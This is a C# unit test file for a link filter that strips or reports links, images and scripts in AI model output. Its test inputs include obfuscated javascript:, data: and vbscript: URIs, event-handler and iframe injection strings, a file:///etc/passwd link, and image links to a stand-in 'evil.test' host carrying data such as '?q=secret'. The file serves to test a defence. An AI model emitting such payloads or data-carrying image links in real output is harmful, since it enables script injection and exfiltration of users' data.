using AiApiGuard.Filters.OutputFiltering.Links;
using AiApiGuard.TestUtilities;
using Microsoft.Extensions.DependencyInjection;

namespace AiApiGuard.Tests.Filters.OutputFiltering.Links;

[TestFixture]
internal sealed class LinkFilterTests
{
    private const string Markdown = "See [a](https://evil.test/x \"t\"), [b](https://example.com/x) and [c](/help).";

    // Where nothing is configured: links lead everywhere, and nothing is loaded.
    [TestCase(Markdown, Markdown)]
    [TestCase("![p](https://evil.test/?q=secret)", "![p](#)")]
    [TestCase("![p](<https://evil.test/?q=a b>)", "![p](<#>)")]
    [TestCase("![p](//evil.test/x) ![p](/local.png)", "![p](#) ![p](/local.png)")]
    [TestCase("![a [b] c](https://evil.test/x)", "![a [b] c](#)")]
    [TestCase("![a `[` b](https://evil.test/x)", "![a `[` b](#)")]
    [TestCase("![a \\] b](https://evil.test/x)", "![a \\] b](#)")]
    [TestCase("[![a](https://evil.test/1)](https://example.com)", "[![a](#)](https://example.com)")]
    [TestCase("![a](\n https://evil.test/1)", "![a](\n #)")]
    [TestCase("![a][r]\n\n[r]: https://evil.test/1 'x'\n", "![a][r]\n\n[r]: # 'x'\n")]
    [TestCase("[r]: https://evil.test/1\n\n![a][r]", "[r]: https://evil.test/1\n\n![a\\][r\\]")]
    [TestCase("<img src=\"https://evil.test/x\" alt='a > b'>", "<img src=\"#\" alt='a > b'>")]
    [TestCase("<img alt=\">\" src=https://evil.test/x>", "<img alt=\">\" src=#>")]
    [TestCase("<img srcset='/a 1x,//evil.test/b 2x'>", "<img srcset='#'>")]
    [TestCase("<iframe src = 'https://evil.test/'></iframe>", "<iframe src = '#'></iframe>")]
    [TestCase("<link rel=x href=//evil.test/a><base href='//evil.test'>", "<link rel=x href=#><base href='#'>")]
    [TestCase("<video poster=//evil.test/x><source src=//evil.test/y>", "<video poster=#><source src=#>")]
    [TestCase("<meta http-equiv=refresh content='0; url=https://evil.test'>", "<meta http-equiv=refresh content='#'>")]
    [TestCase("<p style=\"background:url('//evil.test/x')\">", "<p style=\"#\">")]
    [TestCase("<style>a{b:url(https://evil.test/x)} @import \"//evil.test/y\";", "<style>a{b:url(#)} @import \"#\";")]
    [TestCase("<svg:image xlink:href='//evil.test/x'>", "<svg:image xlink:href='#'>")]
    [TestCase("[x](https://example.com@evil.test/)", "[x](#)")]
    [TestCase("https://example.com:pw@evil.test/ see", "(link removed) see")]
    public async Task Inspect_ByDefault_LoadsFromNowhere(string text, string expected) => await AssertAtEveryCutAsync(new LinkOptions(), text, expected);

    // Whatever is configured.
    [TestCase("[x](javascript:alert(1))", "[x](#)")]
    [TestCase("[x](JaVa&#83;cript&colon;alert(1))", "[x](#)")]
    [TestCase("[x](&#106avascript:a)", "[x](#)")]
    [TestCase("[x](<java\tscript:alert(1)>)", "[x](<#>)")]
    [TestCase("[x](java\u200Bscript:a)", "[x](#)")]
    [TestCase("[x](java%73cript:a)", "[x](#)")]
    [TestCase("[x](data:text/html;base64,AAAA)", "[x](#)")]
    [TestCase("[x](vbscript:a) [x](file:///etc/passwd) [x](blob:x)", "[x](#) [x](#) [x](#)")]
    [TestCase("![x](data:image/png;base64,AAAA)", "![x](#)")]
    [TestCase("<javascript:alert(1)>", "(link removed)")]
    [TestCase("<a href=\"java\nscript:x\">q</a>", "<a href=\"#\">q</a>")]
    [TestCase("<a href=' &#x6A;avascript:x'>q</a>", "<a href='#'>q</a>")]
    [TestCase("<b onmouseover=\"alert(1)\">q</b>", "<b onmouseover=\"#\">q</b>")]
    [TestCase("<script src=x>a</script>", "&lt;script src=x>a</script>")]
    [TestCase("<iframe srcdoc='<p>'>", "<iframe srcdoc='#'>")]
    [TestCase("[r]: javascript:alert(1)\n", "[r]: #\n")]
    public async Task Inspect_WhatRunsCode_IsRemovedEvenWhereLinksAreReported(string text, string expected)
    {
        var options = new LinkOptions { Action = AiGuardLinkAction.Report };
        options.AllowedHosts.Add("*");
        options.AllowedImageHosts.Add("*");

        await AssertAtEveryCutAsync(options, text, expected);
    }

    [TestCase(Markdown, "See [a](# \"t\"), [b](https://example.com/x) and [c](/help).")]
    [TestCase("Go to https://evil.test/a_(b), or (https://example.com). Or www.evil.test!", "Go to (link removed), or (https://example.com). Or (link removed)!")]
    [TestCase("<https://evil.test/x> <https://example.com> <ada@evil.test>", "(link removed) <https://example.com> <ada@evil.test>")]
    [TestCase("<a href=https://evil.test>x</a> <a href='https://example.com'>y</a>", "<a href=#>x</a> <a href='https://example.com'>y</a>")]
    [TestCase("[x](https:\\\\\\\\evil.test) [x](https:/evil.test) [x](/\\evil.test)", "[x](#) [x](#) [x](#)")]
    [TestCase("[x](//evil.test) [x](\\\\evil.test)", "[x](#) [x](#)")]
    [TestCase("[x](https://example.com.evil.test) [x](https://evil.test/example.com)", "[x](#) [x](#)")]
    [TestCase("[x](https://evil.test#@example.com) [x](https://evil.test\\@example.com)", "[x](#) [x](#)")]
    [TestCase("[x](HTTPS://EXAMPLE.com.:8443/a) [x](https://ex%61mple.com)", "[x](HTTPS://EXAMPLE.com.:8443/a) [x](https://ex%61mple.com)")]
    [TestCase("[x](https://www.example.com)", "[x](#)")]
    [TestCase("[x](https://a.b.docs.example.com) [x](https://docs.example.com)", "[x](https://a.b.docs.example.com) [x](#)")]
    [TestCase("[x](https://\u0435xample.com) [x](https://b\u00FCcher.test) [x](https://xn--bcher-kva.test)", "[x](#) [x](https://b\u00FCcher.test) [x](https://xn--bcher-kva.test)")]
    [TestCase("[x](http://127.0.0.1) [x](http://2130706433/) [x](http://0x7f.1) [x](http://[::1]:80/)", "[x](http://127.0.0.1) [x](http://2130706433/) [x](http://0x7f.1) [x](http://[::1]:80/)")]
    [TestCase("[x](http://127.0.0.2) [x](http://2130706434/) [x](http://[::2]/)", "[x](#) [x](#) [x](#)")]
    [TestCase("[x](mailto:ada@evil.test) [x](tel:+1415) [x](ssh://example.com)", "[x](mailto:ada@evil.test) [x](tel:+1415) [x](#)")]
    [TestCase("[x]https://evil.test(https://example.com)", "[x](link removed)")]
    [TestCase("\u8BF7\u8BBF\u95EEhttps://evil.test\uFF0C\u8C22\u8C22", "\u8BF7\u8BBF\u95EE(link removed)\uFF0C\u8C22\u8C22")]
    [TestCase("[open](https://evil.test/abc", "[open](#")]
    public async Task Inspect_HostsNamed_LeadsNowhereElse(string text, string expected)
    {
        var options = new LinkOptions();
        foreach (var host in new[] { "Example.com", "*.docs.example.com", "b\u00FCcher.test", "127.0.0.1", "[::1]" })
            options.AllowedHosts.Add(host);

        await AssertAtEveryCutAsync(options, text, expected);
    }

    // What a reader's program shows as code stays, what it only might stays not.
    [TestCase("```bash\n![x](//evil.test)\n```\n![x](//evil.test)", "```bash\n![x](//evil.test)\n```\n![x](#)")]
    [TestCase("````\r\n```\r\n![x](//evil.test)\r\n````\r\n![x](//evil.test)", "````\r\n```\r\n![x](//evil.test)\r\n````\r\n![x](#)")]
    [TestCase("1. a\n   ```\n   ![x](//evil.test)\n![x](//evil.test)", "1. a\n   ```\n   ![x](//evil.test)\n![x](#)")]
    [TestCase("- a\n    ```\n  ```\n  ![x](//evil.test)", "- a\n    ```\n  ```\n  ![x](#)")]
    [TestCase("- ```\n![x](//evil.test)", "- ```\n![x](#)")]
    [TestCase("~~~\n```\n~~~\n![x](//evil.test)", "~~~\n```\n~~~\n![x](#)")]
    [TestCase("<!--\n```\n-->\n![x](//evil.test)", "<!--\n```\n-->\n![x](#)")]
    [TestCase("``` a`b\n![x](//evil.test)", "``` a`b\n![x](#)")]
    [TestCase("Use `![x](//evil.test)` and ``a`![x](//evil.test)``.", "Use `![x](//evil.test)` and ``a`![x](//evil.test)``.")]
    [TestCase("Use `![x](//evil.test) without end", "Use `![x](#) without end")]
    [TestCase("`a\nb` ![x](//evil.test) `c`", "`a\nb` ![x](#) `c`")]
    [TestCase("| `a | ![x](//evil.test) ` |", "| `a | ![x](#) ` |")]
    [TestCase("<a title=\"`\"> ![x](//evil.test)`", "<a title=\"`\"> ![x](#)`")]
    [TestCase("\\`![x](//evil.test)`", "\\`![x](#)`")]
    public async Task Inspect_Code_StaysOnlyWhereItSurelyIsCode(string text, string expected)
    {
        await AssertAtEveryCutAsync(new LinkOptions(), text, expected);

        var everywhere = await TextFilterDriver.RunAsync(new LinkFilter(new LinkOptions { LeaveCode = false }), [text]);
        Assert.That(everywhere.Released, Is.EqualTo(text.Replace("(//evil.test)", "(#)", StringComparison.Ordinal)));
    }

    [TestCase("plain text, h and ht and https and www. and [brackets] and [x] (y) <3 a < b, 10:30, e.g. v1.2 List<string> x = 5")]
    [TestCase("- [ ] task\n- [x] done\n\n[^1]: A footnote: see above\n[Ada]: hello\n\n`code` | `more`\n")]
    [TestCase("Use https:// or http://… and {\"url\": \"x\"}; curl(1), @important, C:\\dir, std::vector<int>")]
    [TestCase("$\\[ a \\]$ and $(b)$ and a[0](1) and f(x)[1]")]
    public async Task Inspect_OrdinaryText_StaysAndIsHardlyHeld(string text)
    {
        foreach (var pieces in Cuts.All(text, pairsUpTo: 0))
        {
            var run = await TextFilterDriver.RunAsync(new LinkFilter(new LinkOptions()), pieces);
            Assert.That(run.Released, Is.EqualTo(text));
            Assert.That(run.Findings, Is.Empty);
            Assert.That(run.LongestHold, Is.LessThan(40));
        }
    }

    [TestCase("[x](https://evil.test/", ")")]
    [TestCase("![x](<https://evil.test/", ">)")]
    [TestCase("<img src=\"https://evil.test/", "\">")]
    [TestCase("<img src=https://evil.test/", " >")]
    [TestCase("<https://evil.test/", ">")]
    [TestCase("https://evil.test/", " ")]
    [TestCase("a{b:url(https://evil.test/", ")")]
    public async Task Inspect_TargetWithoutEnd_IsSwallowedAndHeldBounded(string start, string end)
    {
        var options = new LinkOptions();
        options.AllowedHosts.Add("example.com");
        var text = "a " + start + new string('q', 6000) + end + " z";
        var whole = await TextFilterDriver.RunAsync(new LinkFilter(options), [text]);
        Assert.That(whole.Released, Does.Not.Contain("evil").And.Not.Contain("qq").And.EndsWith(" z"));

        foreach (var size in new[] { 1, 7, 2047, 2048, 2049 })
        {
            var run = await TextFilterDriver.RunAsync(new LinkFilter(options), [.. text.Chunk(size).Select(piece => new string(piece))]);
            Assert.That(run.Released, Is.EqualTo(whole.Released), $"pieces of {size}");
            Assert.That(run.LongestHold, Is.LessThan(2200 + size));
            Assert.That(run.Findings, Has.Count.EqualTo(1));
        }
    }

    [Test]
    public async Task Inspect_ManyBlanksBeforeTheTarget_LeadNowhere()
    {
        var text = "![x](" + new string(' ', 5000) + "https://evil.test/a) <img src=" + new string('\n', 5000) + "https://evil.test>";

        var run = await TextFilterDriver.RunAsync(new LinkFilter(new LinkOptions()), [.. text.Chunk(100).Select(piece => new string(piece))]);

        Assert.That(run.Released, Does.StartWith("![x](# ").And.Contain("src=#\n"));
    }

    [TestCase("[x](https://evil.test)", "link_not_allowed")]
    [TestCase("![x](https://evil.test)", "image_not_allowed")]
    [TestCase("[x](javascript:a)", "active_link")]
    public async Task Inspect_Deny_DeniesAndNamesTheKind(string text, string code)
    {
        var options = new LinkOptions { Action = AiGuardLinkAction.Deny };
        options.AllowedHosts.Add("example.com");
        foreach (var pieces in Cuts.All(text))
        {
            var run = await TextFilterDriver.RunAsync(new LinkFilter(options), pieces);
            Assert.That(run.Decision.Denial?.ReasonCode, Is.EqualTo("link_not_allowed"));
            Assert.That(run.Findings.Select(finding => finding.Code), Is.EqualTo([code]));
            Assert.That(run.Released, Does.Not.Contain("//evil").And.Not.Contain("script"));
        }
    }

    [Test]
    public async Task Inspect_LinkWithMuchData_IsReportedAndStays()
    {
        var text = "[x](https://evil.test/?q=" + new string('q', 200) + ")";

        var run = await TextFilterDriver.RunAsync(new LinkFilter(new LinkOptions()), [text]);

        Assert.That(run.Released, Is.EqualTo(text));
        Assert.That(run.Findings.Select(finding => finding.Code), Is.EqualTo(["link_payload"]));
    }

    [Test]
    public async Task Inspect_ToolArguments_OnlyIfAskedTo()
    {
        const string Arguments = "{\"url\":\"https://evil.test\"}";
        var options = new LinkOptions();
        options.AllowedHosts.Add("example.com");

        Assert.That(await EditsAsync(options), Is.Zero);
        options.InspectToolArguments = true;
        Assert.That(await EditsAsync(options), Is.EqualTo(1));

        static async Task<int> EditsAsync(LinkOptions options)
        {
            var window = new AiGuardTextWindow(Arguments, AiGuardDirection.Response, new(AiGuardRole.Assistant, AiGuardOrigin.Model, "choices[0].arguments"));
            await new LinkFilter(options).OnResponseAsync(NewContext(), window, default);
            return window.Edits.Count;
        }
    }

    [Test]
    public async Task OnRequest_BothDirections_LeavesTheApplicationsOwnTexts()
    {
        AiGuardTextWindow[] windows =
        [
            new("![x](//evil.test)", AiGuardDirection.Request, new(AiGuardRole.System, AiGuardOrigin.Application, "messages[0].content")),
            new("![x](//evil.test)", AiGuardDirection.Request, new(AiGuardRole.ToolResult, AiGuardOrigin.External, "messages[1].content")),
        ];

        await new LinkFilter(new LinkOptions { Direction = AiGuardDirection.Both }).OnRequestAsync(NewContext(new AiGuardPrompt(windows)), default);

        Assert.That(windows.Select(window => window.Edits.Count), Is.EqualTo([0, 1]));
    }

    [Test]
    public void Validate_WhatCannotWork_NamesTheOption()
    {
        var options = new LinkOptions { TargetReplacement = "a(b", TextReplacement = "<x>", Direction = 0 };
        options.AllowedHosts.Add("https://example.com");
        options.AllowedImageHosts.Add("exa*mple.com");
        options.AllowedSchemes.Add("javascript");
        options.AllowedSchemes.Add("https:");

        var result = new LinkOptionsRulesValidator().Validate("chat", options);

        Assert.That(result.Failures, Has.Exactly(7).Items.And.All.Contain("of policy 'chat'"));
        Assert.That(new LinkOptionsRulesValidator().Validate("chat", new LinkOptions()).Succeeded);
    }

    private static AiGuardContext NewContext(AiGuardPrompt? prompt = null) => new(new ServiceCollection().BuildServiceProvider(), "test", prompt);

    private static async Task AssertAtEveryCutAsync(LinkOptions options, string text, string expected)
    {
        var filter = new LinkFilter(options);
        var codes = (await TextFilterDriver.RunAsync(filter, [text])).Findings.Select(finding => finding.Code).ToArray();
        foreach (var pieces in Cuts.All(text, pairsUpTo: 40).Concat(Cuts.Sizes(text, 12)))
        {
            var run = await TextFilterDriver.RunAsync(filter, pieces);
            Assert.That(run.Released, Is.EqualTo(expected), () => string.Join("|", pieces));
            Assert.That(run.Findings.Select(finding => finding.Code), Is.EqualTo(codes));
        }
    }
}
